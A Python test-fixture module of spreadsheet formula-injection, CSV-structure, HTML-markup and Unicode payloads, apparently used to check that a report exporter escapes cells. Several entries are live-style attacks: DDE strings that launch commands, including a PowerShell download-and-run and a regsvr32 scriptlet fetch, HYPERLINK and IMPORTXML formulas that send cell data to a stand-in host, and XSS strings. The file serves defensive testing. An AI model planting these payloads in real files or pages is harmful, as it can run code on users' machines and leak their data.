"""Cells that try to run as formulas, break out of markup, or test what text survives.

Every entry is placed in every column of a report by the tests; each is a situation a
spreadsheet or browser meets in real files (DDE, HYPERLINK, fullwidth forms, control
characters, valid addresses that start with a trigger, Unicode names, IDN addresses).
"""

INJECTION = [
    # each trigger character on its own and in front of a formula
    "=", "+", "-", "@", "\t", "\r",
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    "=SUM(A1:A9)", "=-1", "-1", "+44 20 7946 0958", "=A1*2",
    # DDE and command execution
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "=cmd|'/C powershell IEX(wget example.invalid/p)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll'!''",
    # data exfiltration through links and remote functions
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click for details\")",
    "+HYPERLINK(\"http://example.invalid\")", "@HYPERLINK(\"http://example.invalid\")",
    "=IMPORTXML(CONCAT(\"http://example.invalid/?v=\",A1),\"//a\")",
    "=IMAGE(\"http://example.invalid/x.png\")", "=WEBSERVICE(\"http://example.invalid\")",
    "=CHAR(61)&\"1+1\"", "=\"=\"&\"1+1\"",
    # fullwidth and small forms, and triggers behind blanks or NUL
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫x",
    " =1+1", "\u00a0=1+1", "\u3000=1+1", "\x00=1+1", "  -2",
    # valid email addresses and names that start with a trigger
    "=1+1@x.com", "=x@y.com", "+jo@x.com", "-jo@x.com", "-Jo", "+Anna", "@home", "=Bob=",
    # the escape character itself must round-trip
    "'", "'=1+1", "''=1+1", "' -1",
    # markup that must stay text in HTML
    "<script>alert(1)</script>", "</script><script>alert(2)</script>",
    "\"><img src=x onerror=alert(3)>", "<!--", "&amp; &lt;", "javascript:alert(4)",
    # CSV structure and XML escapes
    "a,b\"c\r\nd", "=1+1\n=2+2", "_x0041_", "a_x0041_b_x0042_", "\x01\x02 control", "\x00nul",
]

UNICODE = [
    "Zoë O'Brien-Łukasiewicz", "François Lefèvre", "名前 太郎", "Ελένη Παπαδοπούλου",
    "محمد علي", "emoji 😀 person", "line\u2028separator",
    "jörg@bücher.example", "josé@例え.jp", "пример@пример.рф", "δοκιμή@παράδειγμα.δοκιμή",
]

PAYLOADS = INJECTION + UNICODE

# XlsxWriter misses the second of two ``_xHHHH_`` that share an underscore (test_formats).
CHAINED_ESCAPES = "_x005F_x0041_"
assert len(INJECTION) >= 50
